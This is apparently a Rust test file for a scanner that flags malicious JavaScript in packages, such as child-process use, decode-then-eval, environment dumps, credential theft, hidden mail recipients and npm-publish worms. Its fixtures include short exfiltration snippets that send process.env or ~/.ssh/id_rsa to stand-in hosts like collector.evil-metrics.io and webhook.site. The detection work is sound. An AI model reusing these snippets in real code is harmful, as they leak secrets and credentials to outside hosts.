//! Scope resolution and per-file rating, one `check` per case: the findings of a
//! single file as `severity rule line` lines.

use oxc_allocator::Allocator;

use super::{FileContext, analyse_source, source_type_for};

fn check(source: &str, expected: &str) {
    let indicators = crate::Indicators::default();
    check_with(source, &FileContext { install_script: None, own_hosts: &[], indicators: &indicators }, expected);
}

fn check_with(source: &str, context: &FileContext<'_>, expected: &str) {
    let mut allocator = Allocator::default();
    let analysis = analyse_source(&mut allocator, "index.js", source, source_type_for("index.js").unwrap(), context);
    let actual: Vec<String> = analysis
        .findings
        .iter()
        .map(|finding| {
            let line = finding.location.as_ref().and_then(|location| location.line).unwrap_or(0);
            format!("{} {} {line}", finding.severity, finding.rule)
        })
        .collect();
    assert_eq!(actual.join("\n"), expected.trim(), "source:\n{source}");
}

#[test]
fn child_process_is_found_through_every_kind_of_binding() {
    check("const cp = require('child_process');\ncp.exec(command);", "low child-process 2");
    check("const { exec: run } = require('node:child_process');\nrun(command);", "low child-process 2");
    check("import { spawn } from 'child_process';\nspawn(command, []);", "low child-process 2");
    check("import * as cp from 'child_process';\ncp.execSync(`git ${args}`);", "low child-process 2");
    check("require('child_process').execSync(command);", "low child-process 1");
    // A literal command is context for the diff, not a finding.
    check("require('child_process').execSync('git rev-parse HEAD');", "");
}

#[test]
fn shadowed_globals_are_not_the_globals() {
    check("function run(require) { return require(name); }", "");
    check("function f(eval) { eval(code); }", "");
    check("function describe(process) { return JSON.stringify(process.env); }", "");
    check("const fetch = () => {}; globalThis.other = 1; function g(window) { window.fetch = x; }", "");
    check("function load(child_process) { child_process.exec(command); }", "");
}

#[test]
fn literal_code_is_not_dynamic_code() {
    check("var global = new Function('return this')();", "");
    check("eval('1 + 1');", "");
    check("eval(code);", "low dynamic-code 1");
    check("setTimeout('doThing()' + suffix, 10);", "low dynamic-code 1");
    check("setTimeout(() => doThing(), 10);", "");
    check("const vm = require('vm');\nvm.runInNewContext(source, sandbox);", "low dynamic-code 2");
}

#[test]
fn decoded_data_reaching_execution_is_high() {
    check("eval(atob(payload));", "high decode-then-execute 1");
    check("const code = Buffer.from(blob, 'base64').toString();\nnew Function(code)();", "high decode-then-execute 2");
    check(
        "function d(x) { return Buffer.from(x, 'hex').toString(); }\nrequire(d('6f73'));",
        "high decode-then-execute 2",
    );
    // Decoding alone is ordinary.
    check("const bytes = Buffer.from(blob, 'base64');\nWebAssembly.instantiate(bytes);", "");
}

#[test]
fn environment_dumps_are_rated_by_where_they_go() {
    check("const names = Object.keys(process.env);", "low env-enumeration 1");
    check("const dump = JSON.stringify(process.env);", "medium env-enumeration 1");
    check(
        "const dump = JSON.stringify(process.env);\nfetch('https://collector.evil-metrics.io/e', { method: 'POST', body: dump });",
        "high env-exfiltration 1",
    );
    check("for (const key in process.env) { console.log(key); }", "low env-enumeration 1");
    check("const child = spawn(cmd, { env: { ...process.env, CI: '1' } });", "");
    check("const child = spawn(cmd, { env: process.env });", "");
    check(
        "const result = { env: process.env, host: os.hostname() };\nsave(JSON.stringify(result));",
        "medium env-enumeration 2",
    );
}

#[test]
fn only_contacted_hosts_count_as_destinations() {
    // A documentation URL beside a network call is not where data goes.
    check(
        "// see docs\nconst help = 'https://developer.mozilla.org/docs';\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch(url);",
        "medium credential-file-access 3",
    );
    check(
        "const endpoint = 'https://collector.evil-metrics.io/k';\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nfetch(endpoint, { body: key });",
        "high credential-exfiltration 2",
    );
}

#[test]
fn the_packages_own_host_is_not_external() {
    let own_hosts = ["posthog.com".to_owned()];
    let indicators = crate::Indicators::default();
    let context = FileContext { install_script: Some("postinstall"), own_hosts: &own_hosts, indicators: &indicators };
    check_with(
        "const fs = require('fs');\nhttps.get('https://us.i.posthog.com/static/x.tgz', (r) => r.pipe(fs.createWriteStream('x')));",
        &context,
        "medium install-time-download 2",
    );
    check_with(
        "const fs = require('fs');\nhttps.get('https://downloads.other-host.io/x.tgz', (r) => r.pipe(fs.createWriteStream('x')));",
        &context,
        "high install-time-download 2",
    );
}

#[test]
fn runtime_tampering() {
    check("window.fetch = async (...args) => original(...args);", "medium network-api-override 1");
    check("Object.defineProperty(globalThis, 'ethereum', { get: () => proxy });", "high wallet-provider-tampering 1");
    check("const Module = require('module');\nModule.prototype.require = hooked;", "medium require-hook 2");
    check("XMLHttpRequest.prototype.send = function () {};", "medium network-api-override 1");
}

#[test]
fn obfuscator_string_array_rotation_is_found_without_hex_names() {
    check(
        "(function(a,b){var c=a();while(!![]){try{if(parseInt(c[0])===b)break;else c['push'](c['shift']());}catch(e){c['push'](c['shift']());}}}(words,1));",
        "high obfuscated-code 1",
    );
}

#[test]
fn mail_recipients() {
    check("transport.sendMail({ to: user.email, bcc: 'copy@collector.io' });", "high mail-hidden-recipient 1");
    check("transport.sendMail({ to: 'ops@company.io' });", "medium mail-hard-coded-recipient 1");
    check("transport.sendMail({ to: 'someone@example.com', bcc: options.bcc });", "");
    check("const message = { bcc: process.env.BCC || 'fallback@collector.io' };", "high mail-hidden-recipient 1");
    check("const copy = 'copy@collector.io';\ntransport.sendMail({ to, bcc: copy });", "high mail-hidden-recipient 2");
    check("message.bcc = ['audit@collector.io'];\ntransport.sendMail(message);", "high mail-hidden-recipient 1");
    check(
        "sgMail.send({ personalizations: [{ to, bcc: [{ email: 'audit@collector.io' }] }] });",
        "high mail-hidden-recipient 1",
    );
    // An address outside mail-sending code is not a recipient.
    check("const config = { to: 'ops@company.io' };", "");
}

#[test]
fn text_that_is_not_javascript_is_still_searched() {
    check(
        "this is <<< not javascript https://webhook.site/abc ~/.ssh/id_rsa",
        "critical network-exfil-service 1\ncritical credential-exfiltration 1\ninfo parse-error 0",
    );
}

/// Forty doublings of one URL constant, then a network call with the last one.
fn doubling_source(first: &str, double: impl Fn(usize) -> String) -> String {
    let mut source = format!("const u0 = {first};\n");
    for index in 1..=40 {
        source.push_str(&double(index));
        source.push('\n');
    }
    source.push_str("fetch(u40);\n");
    source
}

// See: issue 10 (the URL list doubled per line until the process died at 3 GiB).
#[test]
fn issue_10_doubled_url_constants_are_tracked_once_and_the_folded_length_is_a_limit() {
    let source = doubling_source("'http://45.9.148.1/e'", |index| format!("const u{index} = u{} + u{0};", index - 1));
    check(&source, "medium network-ip-literal 1\nmedium analysis-limit-reached 0");
    let source =
        doubling_source("'http://45.9.148.1/e'", |index| format!("const u{index} = `${{u{}}}${{u{0}}}`;", index - 1));
    check(&source, "medium network-ip-literal 1\nmedium analysis-limit-reached 0");
}

#[test]
fn arrays_spreading_each_other_carry_their_urls_once() {
    let source =
        doubling_source("['http://45.9.148.1/e']", |index| format!("const u{index} = [...u{}, ...u{0}];", index - 1));
    check(&source, "medium network-ip-literal 1");
}

#[test]
fn short_folded_constants_still_resolve_recipients() {
    check(
        "const domain = 'collector' + '.io';\nconst copy = `audit@${domain}`;\ntransport.sendMail({ to, bcc: copy });",
        "high mail-hidden-recipient 3",
    );
}

// See: issue 10 (yarn 4.18.1 was held once it could be scanned: its help text says
// `yarn npm publish`, and it handles npm tokens as any package manager does).
#[test]
fn issue_10_npm_publish_in_help_text_is_not_a_worm() {
    let help = "const help = { examples: [['Publish the active workspace', 'yarn npm publish']] };\n\
                const token = process.env.NPM_TOKEN;\nrequire('child_process').spawn(command, []);";
    check(help, "low child-process 3\nmedium worm-npm-publish 1");
    let worm = "const token = process.env.NPM_TOKEN;\nconst { execSync } = require('child_process');\n\
                execSync(`cd ${directory} && npm publish --access public`);";
    check(worm, "low child-process 3\nhigh worm-npm-publish 3");
    let through_a_constant = "const token = process.env.NPM_TOKEN;\nconst publish = 'npm ' + 'publish';\n\
                              require('child_process').execSync(publish);";
    check(through_a_constant, "low child-process 3\nhigh worm-npm-publish 3");
}
